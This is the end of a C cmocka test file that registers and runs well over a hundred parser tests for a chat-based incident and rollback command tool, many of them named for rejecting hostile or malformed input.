		cmocka_unit_test(test_lambda_revision),
		cmocka_unit_test(test_version_with_path),
		cmocka_unit_test(test_to_refused_for_bluegreen),
		cmocka_unit_test(test_to_refused_for_flag),
		cmocka_unit_test(test_to_refused_before_value_is_read),
		cmocka_unit_test(test_to_refused_when_service_comes_last),
		cmocka_unit_test(test_to_refused_with_generic_reason_when_method_disagrees),
		cmocka_unit_test(test_severity_word),
		cmocka_unit_test(test_severity_out_of_range),
		cmocka_unit_test(test_severity_names),
		cmocka_unit_test(test_severity_from_name),
		cmocka_unit_test(test_severity_from_bad_name),
		cmocka_unit_test(test_reason_empty),
		cmocka_unit_test(test_reason_too_long),
		cmocka_unit_test(test_reason_line_break),
		cmocka_unit_test(test_reason_control_character),
		cmocka_unit_test(test_reason_command_substitution),
		cmocka_unit_test(test_reason_parameter_expansion),
		cmocka_unit_test(test_reason_backtick),
		cmocka_unit_test(test_reason_plain_dollar_is_fine),
		cmocka_unit_test(test_echo_escapes_slack_control_characters),
		cmocka_unit_test(test_echo_is_cut_at_40_characters),
		cmocka_unit_test(test_usage_mentions_grammar_and_options),
		cmocka_unit_test(test_hostile_semicolon_in_service),
		cmocka_unit_test(test_hostile_semicolon_after_service),
		cmocka_unit_test(test_hostile_semicolon_in_target),
		cmocka_unit_test(test_hostile_command_substitution_target),
		cmocka_unit_test(test_hostile_backticks_target),
		cmocka_unit_test(test_hostile_command_substitution_reason),
		cmocka_unit_test(test_hostile_ifs_reason),
		cmocka_unit_test(test_hostile_unquoted_backticks_reason),
		cmocka_unit_test(test_hostile_pipe),
		cmocka_unit_test(test_hostile_and_and),
		cmocka_unit_test(test_hostile_newline_between_commands),
		cmocka_unit_test(test_hostile_newline_in_reason),
		cmocka_unit_test(test_hostile_unicode_line_separator_in_reason),
		cmocka_unit_test(test_hostile_kubeconfig_option),
		cmocka_unit_test(test_hostile_context_option),
		cmocka_unit_test(test_hostile_path_as_service),
		cmocka_unit_test(test_hostile_path_as_version),
		cmocka_unit_test(test_hostile_option_as_version),
		cmocka_unit_test(test_hostile_option_as_revision),
		cmocka_unit_test(test_hostile_dot_dot_version),
		cmocka_unit_test(test_hostile_huge_revision),
		cmocka_unit_test(test_hostile_control_character_in_reason),
		cmocka_unit_test(test_hostile_escape_sequence_in_reason),
		cmocka_unit_test(test_hostile_control_character_in_service),
		cmocka_unit_test(test_hostile_del_in_target),
		cmocka_unit_test(test_hostile_percent_nul_in_target),
		cmocka_unit_test(test_hostile_cyrillic_lookalike_service),
		cmocka_unit_test(test_hostile_unicode_hyphen_service),
		cmocka_unit_test(test_hostile_fullwidth_digits_target),
		cmocka_unit_test(test_hostile_minus_sign_lookalike_option),
		cmocka_unit_test(test_hostile_bidi_override_in_reason),
		cmocka_unit_test(test_hostile_slack_channel_ping_as_service),
		cmocka_unit_test(test_hostile_option_smuggled_in_quoted_target),
		cmocka_unit_test(test_hostile_second_equals_in_target),
		cmocka_unit_test(test_hostile_second_reason),
		cmocka_unit_test(test_hostile_empty_quoted_target),
		cmocka_unit_test(test_hostile_invalid_utf8_bytes),
		cmocka_unit_test(test_hostile_overlong_utf8_slash),
		cmocka_unit_test(test_hostile_severity_with_payload),
		cmocka_unit_test(test_hostile_redirect),
		cmocka_unit_test(test_hostile_glob_service),
		cmocka_unit_test(test_hostile_backtick_in_service_echo),
		cmocka_unit_test(test_hostile_long_reason_10k),
		cmocka_unit_test(test_hostile_many_words),
		cmocka_unit_test(test_hostile_shell_characters_in_reason_are_kept_verbatim),
		cmocka_unit_test(test_hostile_options_inside_reason_stay_in_reason),
		cmocka_unit_test(test_hostile_unicode_reason_kept_verbatim),
		cmocka_unit_test(test_hostile_mention_in_target_rejected),
		cmocka_unit_test(test_status_alone_means_the_open_incidents),
		cmocka_unit_test(test_status_with_id),
		cmocka_unit_test(test_status_word_and_id_any_case),
		cmocka_unit_test(test_status_post_before_id),
		cmocka_unit_test(test_status_post_without_id),
		cmocka_unit_test(test_status_post_with_em_dash),
		cmocka_unit_test(test_status_quoted_id),
		cmocka_unit_test(test_incident_id_of_5_and_6_digits),
		cmocka_unit_test(test_status_help),
		cmocka_unit_test(test_status_of_service_named_like_an_id),
		cmocka_unit_test(test_resolve_with_note),
		cmocka_unit_test(test_sent),
		cmocka_unit_test(test_assess),
		cmocka_unit_test(test_resolve_without_note),
		cmocka_unit_test(test_resolve_note_is_trimmed_and_keeps_inner_spaces),
		cmocka_unit_test(test_resolve_quoted_note_loses_its_quotes),
		cmocka_unit_test(test_resolve_partly_quoted_note_is_kept_as_typed),
		cmocka_unit_test(test_resolve_note_with_unclosed_quote_is_kept_as_typed),
		cmocka_unit_test(test_resolve_note_decodes_like_a_reason),
		cmocka_unit_test(test_resolve_note_may_quote_commands),
		cmocka_unit_test(test_resolve_note_dashes_are_text),
		cmocka_unit_test(test_resolve_note_of_500_characters),
		cmocka_unit_test(test_resolve_note_too_long),
		cmocka_unit_test(test_resolve_note_line_break),
		cmocka_unit_test(test_resolve_note_control_character),
		cmocka_unit_test(test_cancel_with_reason),
		cmocka_unit_test(test_cancel_reason_too_long),
		cmocka_unit_test(test_cancel_reason_line_break),
		cmocka_unit_test(test_report),
		cmocka_unit_test(test_history_of_every_service),
		cmocka_unit_test(test_history_of_one_service),
		cmocka_unit_test(test_reserved_words),
		cmocka_unit_test(test_resolve_needs_id),
		cmocka_unit_test(test_cancel_needs_id),
		cmocka_unit_test(test_report_needs_id),
		cmocka_unit_test(test_short_year_is_not_an_id),
		cmocka_unit_test(test_note_first_is_not_an_id),
		cmocka_unit_test(test_id_without_prefix_suggests_it),
		cmocka_unit_test(test_id_with_short_number_suggests_padding),
		cmocka_unit_test(test_id_with_punctuation_suggests_it),
		cmocka_unit_test(test_id_with_7_digits),
		cmocka_unit_test(test_id_with_letters_after),
		cmocka_unit_test(test_empty_quoted_id),
		cmocka_unit_test(test_id_echo_is_escaped),
		cmocka_unit_test(test_service_where_the_id_goes),
		cmocka_unit_test(test_status_unknown_option),
		cmocka_unit_test(test_status_option_near_miss),
		cmocka_unit_test(test_status_rollback_option),
		cmocka_unit_test(test_status_post_takes_no_value),
		cmocka_unit_test(test_status_two_ids),
		cmocka_unit_test(test_status_unclosed_quote),
		cmocka_unit_test(test_report_takes_only_the_id),
		cmocka_unit_test(test_report_option),
		cmocka_unit_test(test_resolve_reason_option_out_of_habit),
		cmocka_unit_test(test_resolve_unknown_option),
		cmocka_unit_test(test_cancel_rollback_option_before_id),
		cmocka_unit_test(test_history_unknown_service),
		cmocka_unit_test(test_history_bad_service_name),
		cmocka_unit_test(test_history_of_an_incident),
		cmocka_unit_test(test_history_two_services),
		cmocka_unit_test(test_history_empty_service),
		cmocka_unit_test(test_history_option),
		cmocka_unit_test(test_subcommand_after_an_option),
		cmocka_unit_test(test_post_on_a_rollback),
		cmocka_unit_test(test_subcommand_after_service_is_a_stray_word),
		cmocka_unit_test(test_quoted_subcommand_word_is_a_service),
		cmocka_unit_test(test_usage_lists_every_form),
		cmocka_unit_test(test_error_cut_keeps_utf8),
		cmocka_unit_test(test_hostile_note_bidi_override),
		cmocka_unit_test(test_hostile_id_with_shell_characters),
		cmocka_unit_test(test_hostile_id_with_fullwidth_digits),
		cmocka_unit_test(test_hostile_long_id),
	};
	int failed = cmocka_run_group_tests_name("parse", tests, NULL, NULL);

	return failed ? 1 : 0;
}
